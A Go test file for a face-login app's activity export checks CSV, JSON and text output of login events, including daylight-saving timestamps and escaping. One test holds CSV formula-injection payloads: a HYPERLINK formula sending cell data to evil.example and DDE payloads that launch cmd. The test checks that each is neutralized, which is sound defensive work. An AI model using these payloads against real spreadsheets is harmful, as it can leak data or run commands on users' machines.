package activity

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"facelogin/internal/testkit"
	"facelogin/store"
)

// events are two check-ins at 02:30 on the night summer time ends in Madrid
// (the hour repeats), a failure with no face and awkward text.
var events = []store.Event{
	{ID: 12, At: time.Date(2026, 10, 25, 1, 30, 0, 0, time.UTC), Kind: store.EventLoginSuccess, UserID: 3, Username: "Zoë", Distance: 0.29, HasDistance: true, Station: "hall", Detail: "window"},
	{ID: 11, At: time.Date(2026, 10, 25, 0, 30, 0, 0, time.UTC), Kind: store.EventLoginSuccess, UserID: 3, Username: "Zoë", Distance: 0.3125, HasDistance: true, Station: "hall", Detail: "kiosk"},
	{ID: 10, At: time.Date(2026, 10, 24, 22, 0, 0, 0, time.UTC), Kind: store.EventLoginFailure, Station: "front door, left", Detail: "no face, \"really\"\r\nsecond\tline"},
}

func write(t *testing.T, cols []Column, format Format, loc *time.Location, rows ...any) string {
	t.Helper()
	var b bytes.Buffer
	w, err := NewWriter(&b, cols, format, loc)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if w.Rows() != len(rows) {
		t.Fatalf("Rows() = %d, want %d", w.Rows(), len(rows))
	}
	return b.String()
}

func names(cols []Column) []string {
	out := make([]string, len(cols))
	for i, c := range cols {
		out[i] = c.Name
	}
	return out
}

func TestEventCSV(t *testing.T) {
	loc := testkit.Madrid(t)
	rows := asRows(events)
	recs, err := csv.NewReader(strings.NewReader(write(t, EventColumns(), CSV, loc, rows...))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"id", "time", "kind", "user", "station", "distance", "detail"},
		{"12", "2026-10-25T02:30:00+01:00", "login_success", "Zoë", "hall", "0.2900", "window"},
		{"11", "2026-10-25T02:30:00+02:00", "login_success", "Zoë", "hall", "0.3125", "kiosk"},
		// encoding/csv reads \r\n inside quotes as \n.
		{"10", "2026-10-25T00:00:00+02:00", "login_failure", "", "front door, left", "", "no face, \"really\"\nsecond\tline"},
	}
	if !reflect.DeepEqual(recs, want) {
		t.Fatalf("CSV:\n%q\nwant\n%q", recs, want)
	}
	// The same instants from UTC.
	recs, _ = csv.NewReader(strings.NewReader(write(t, EventColumns(), CSV, time.UTC, rows...))).ReadAll()
	if recs[1][1] != "2026-10-25T01:30:00Z" || recs[3][1] != "2026-10-24T22:00:00Z" {
		t.Fatalf("UTC times: %q", recs)
	}
}

func asRows[T any](xs []T) []any {
	out := make([]any, len(xs))
	for i, x := range xs {
		out[i] = x
	}
	return out
}

func TestEventJSON(t *testing.T) {
	loc := testkit.Madrid(t)
	out := write(t, EventColumns(), JSON, loc, asRows(events)...)
	var got []map[string]any
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	if len(got) != 3 || len(lines) != 5 || lines[0] != "[" || lines[4] != "]" {
		t.Fatalf("want one object per line:\n%s", out)
	}
	want := map[string]any{"id": 10.0, "time": "2026-10-25T00:00:00+02:00", "kind": "login_failure", "user": "",
		"station": "front door, left", "distance": nil, "detail": "no face, \"really\"\r\nsecond\tline"}
	if !reflect.DeepEqual(got[2], want) {
		t.Fatalf("JSON object %v, want %v", got[2], want)
	}
	if got[1]["distance"] != 0.3125 {
		t.Fatalf("distance %v", got[1]["distance"])
	}
	// Keys come in column order, the CSV header's.
	last := -1
	for _, name := range names(EventColumns()) {
		i := strings.Index(lines[1], `"`+name+`": `)
		if i <= last {
			t.Fatalf("key %q missing or out of order in %s", name, lines[1])
		}
		last = i
	}
}

func TestEventText(t *testing.T) {
	out := write(t, EventColumns(), Text, testkit.Madrid(t), asRows(events)...)
	want := "" +
		"12       2026-10-25 02:30:00  login_success    Zoë               hall          0.2900    window\n" +
		"11       2026-10-25 02:30:00  login_success    Zoë               hall          0.3125    kiosk\n" +
		"10       2026-10-25 00:00:00  login_failure    -                 front door, left  -         no face, \"really\"  second line\n"
	if out != want {
		t.Fatalf("text:\n%s\nwant\n%s", out, want)
	}
}

func TestEmpty(t *testing.T) {
	for _, c := range []struct {
		format Format
		want   string
	}{
		{CSV, "id,time,kind,user,station,distance,detail\n"},
		{JSON, "[]\n"},
		{Text, ""},
	} {
		if got := write(t, EventColumns(), c.format, nil); got != c.want {
			t.Errorf("format %d, no rows: %q, want %q", c.format, got, c.want)
		}
	}
}

func TestSummary(t *testing.T) {
	loc := testkit.Madrid(t)
	d := store.DaySummary{Day: time.Date(2026, 10, 25, 0, 0, 0, 0, loc), UserID: 3, User: "Zoë",
		First: events[1].At.In(loc), Last: events[0].At.In(loc), CheckIns: 2}
	if got, want := write(t, SummaryColumns(), CSV, loc, d), "day,user,first,last,check_ins\n2026-10-25,Zoë,2026-10-25T02:30:00+02:00,2026-10-25T02:30:00+01:00,2\n"; got != want {
		t.Fatalf("summary CSV %q, want %q", got, want)
	}
	var got []map[string]any
	if err := json.Unmarshal([]byte(write(t, SummaryColumns(), JSON, loc, d)), &got); err != nil || got[0]["check_ins"] != 2.0 || got[0]["day"] != "2026-10-25" {
		t.Fatalf("summary JSON %v, %v", got, err)
	}
	if got, want := write(t, SummaryColumns(), Text, loc, d), "2026-10-25  Zoë               2026-10-25 02:30:00  2026-10-25 02:30:00  2\n"; got != want {
		t.Fatalf("summary text %q, want %q", got, want)
	}
}

func TestShowForWindow(t *testing.T) {
	loc := testkit.Madrid(t)
	cols := EventColumns()
	var shown []string
	for _, c := range cols {
		shown = append(shown, c.Show(events[2], loc))
	}
	want := []string{"10", "2026-10-25 00:00:00", "login_failure", "-", "front door, left", "-", "no face, \"really\"  second line"}
	if !reflect.DeepEqual(shown, want) {
		t.Fatalf("Show = %q, want %q", shown, want)
	}
	if v := Values(cols, events[2], loc); v[1] != "2026-10-25T00:00:00+02:00" || v[6] != events[2].Detail {
		t.Fatalf("Values = %q", v)
	}
}

type failWriter struct{}

var errDiskFull = errors.New("disk full")

func (failWriter) Write([]byte) (int, error) { return 0, errDiskFull }

func TestWriteErrors(t *testing.T) {
	for _, f := range []Format{CSV, JSON, Text} {
		w, err := NewWriter(failWriter{}, EventColumns(), f, nil)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(events[0])
		if err := w.Close(); !errors.Is(err, errDiskFull) {
			t.Errorf("format %d: Close = %v, want the output's error", f, err)
		}
	}
	if _, err := NewWriter(failWriter{}, EventColumns(), Format(9), nil); err == nil {
		t.Error("unknown format accepted")
	}
}

// TestCSVFormulaInjection: a cell that a spreadsheet would run as a formula
// (OWASP CSV Injection, ASVS 1.2.10) is written with an apostrophe in front,
// in the events and in the summary; JSON keeps the value as it is; ordinary
// values, ours and people's, are untouched.
func TestCSVFormulaInjection(t *testing.T) {
	attacks := []string{
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"=cmd|' /C calc'!A0",
		"+1+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"\x00=1+1",
	}
	at := time.Date(2026, 11, 30, 9, 0, 0, 0, time.UTC)
	var rows []any
	for i, a := range attacks {
		rows = append(rows, store.Event{ID: int64(i + 1), At: at, Kind: store.EventOnLogin, Username: a, Station: a, Detail: a,
			Distance: 0.25, HasDistance: true})
	}
	rows = append(rows, store.Event{ID: 99, At: at, Kind: store.EventLoginSuccess, Username: "ann-marie", Station: "hall 2",
		Detail: "exit 0: a=b", Distance: 0.3, HasDistance: true})
	recs, err := csv.NewReader(strings.NewReader(write(t, EventColumns(), CSV, time.UTC, rows...))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, a := range attacks {
		rec := recs[i+1]
		want := "'" + a
		for _, col := range []int{3, 4, 6} { // user, station, detail
			if rec[col] != want {
				t.Errorf("attack %d column %d: %q, want %q", i, col, rec[col], want)
			}
		}
		if rec[0] != strconv.Itoa(i+1) || rec[1] != "2026-11-30T09:00:00Z" || rec[5] != "0.2500" {
			t.Errorf("attack %d: our own values changed: %q", i, rec)
		}
	}
	if got := recs[len(recs)-1]; !reflect.DeepEqual(got, []string{"99", "2026-11-30T09:00:00Z", "login_success", "ann-marie", "hall 2", "0.3000", "exit 0: a=b"}) {
		t.Errorf("ordinary row changed: %q", got)
	}

	sum := store.DaySummary{Day: time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC), User: "@admin", First: at, Last: at, CheckIns: 1}
	recs, err = csv.NewReader(strings.NewReader(write(t, SummaryColumns(), CSV, time.UTC, sum))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if recs[1][1] != "'@admin" {
		t.Errorf("summary user %q", recs[1][1])
	}

	var objs []map[string]any
	if err := json.Unmarshal([]byte(write(t, EventColumns(), JSON, time.UTC, rows[0])), &objs); err != nil {
		t.Fatal(err)
	}
	if objs[0]["user"] != attacks[0] {
		t.Errorf("JSON changed the value: %q", objs[0]["user"])
	}
}

func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "ann": "ann", "'=1": "'=1", " =1": " =1", "0.25": "0.25", "=1": "'=1", "+1": "'+1", "-1": "'-1",
		"@a": "'@a", "\t": "'\t", "\r": "'\r", "\x00": "'\x00", "a=1": "a=1",
	} {
		if got := SpreadsheetSafe(in); got != want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestREADMEKinds: the README's list of `facelogin events --kind` values
// is store.EventKinds, every kind and nothing else.
func TestREADMEKinds(t *testing.T) {
	raw, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	readme := strings.Join(strings.Fields(string(raw)), " ")
	const start = "`--kind` takes one or more of "
	i := strings.Index(readme, start)
	if i < 0 {
		t.Fatalf("the README has no %q", start)
	}
	list, _, ok := strings.Cut(readme[i+len(start):], " (")
	if !ok {
		t.Fatal("the README's --kind list does not end with a parenthesis")
	}
	var got []string
	for _, k := range strings.Split(list, ", ") {
		got = append(got, strings.Trim(k, "`"))
	}
	var want []string
	for _, k := range store.EventKinds() {
		want = append(want, string(k))
	}
	if !slices.Equal(got, want) {
		t.Errorf("the README lists the kinds %q, store.EventKinds %q", got, want)
	}
}
